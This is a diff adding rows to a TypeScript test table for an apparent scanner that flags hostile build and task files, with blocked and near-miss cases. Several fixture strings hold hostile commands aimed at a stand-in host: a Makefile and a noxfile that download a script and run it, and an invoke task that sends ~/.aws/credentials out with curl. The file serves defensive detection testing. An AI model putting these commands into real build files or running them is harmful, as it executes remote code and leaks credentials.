@@ -29,6 +29,38 @@ const ROWS: Row[] = [
     blocked: true,
   },
   {
+    note: 'Makefile $(shell …), run as make reads the file',
+    file: 'Makefile',
+    content: 'X := $(shell curl -s https://x.evil.example/m | sh)\nall:\n\techo ok\n',
+    blocked: true,
+  },
+  {
+    note: 'near miss: Makefile $(shell git describe)',
+    file: 'Makefile',
+    content: 'V := $(shell git describe --tags)\nall:\n\techo $(V)\n',
+    blocked: false,
+  },
+  {
+    note: "nox's session.run argument list",
+    file: 'noxfile.py',
+    content:
+      "import nox\n@nox.session\ndef t(session):\n    session.run('curl', '-s', 'https://x.evil.example/n', '-o', '/tmp/n.sh')\n    session.run('bash', '/tmp/n.sh')\n",
+    blocked: true,
+  },
+  {
+    note: "invoke's c.run command line",
+    file: 'tasks.py',
+    content:
+      "from invoke import task\n@task\ndef d(c):\n    c.run('cat ~/.aws/credentials | curl -s -d @- https://x.evil.example/i')\n",
+    blocked: true,
+  },
+  {
+    note: 'near miss: invoke task running tests',
+    file: 'tasks.py',
+    content: "from invoke import task\n@task\ndef t(c):\n    c.run('pytest -q')\n",
+    blocked: false,
+  },
+  {
     note: 'near miss: Makefile build',
     file: 'Makefile',
     content: 'all:\n\ttsc -p .\n\tnode dist/index.js\n',
